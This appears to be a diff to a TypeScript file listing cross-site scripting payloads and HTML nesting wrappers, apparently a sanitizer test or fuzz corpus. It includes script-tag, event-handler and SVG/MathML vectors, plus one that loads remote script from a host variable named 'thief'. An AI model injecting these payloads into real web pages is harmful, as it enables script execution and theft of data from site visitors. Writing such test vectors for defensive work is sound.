@@ -11,7 +11,7 @@ const encoded = [...deed].map((character) => `&#${character.charCodeAt(0)};`).jo
 const vectors = [
   `<script>${deed}</script>`,
   `<script src="${thief}/run.js"></script>`,
-  `<img src="/x" onerror="${deed}">`,
+  `<img src="/media/brand/og-card.jpg" onload="${deed}">`,
   `<svg onload="${deed}"></svg>`,
   `<svg><script>${deed}</script></svg>`,
   `<math><mtext><script>${deed}</script></mtext></math>`,
@@ -47,7 +47,7 @@ const nests: readonly ((vector: string) => string)[] = [
   (vector) => `<template>${vector}</template><select><option>${vector}</select>`,
   (vector) => `<!--><!-- --!>${vector}<!--`,
   (vector) => `<![CDATA[${vector}]]><?php ${vector} ?>`,
-  (vector) => `<img alt="\`" title='"' src="/x"\`>${vector}`,
+  (vector) => `<img alt="\`" title='"' src="x"\`>${vector}`,
   (vector) => `<textarea/></textarea/>${vector}<xmp>${vector}</xmp><plaintext>${vector}`,
 ];
 
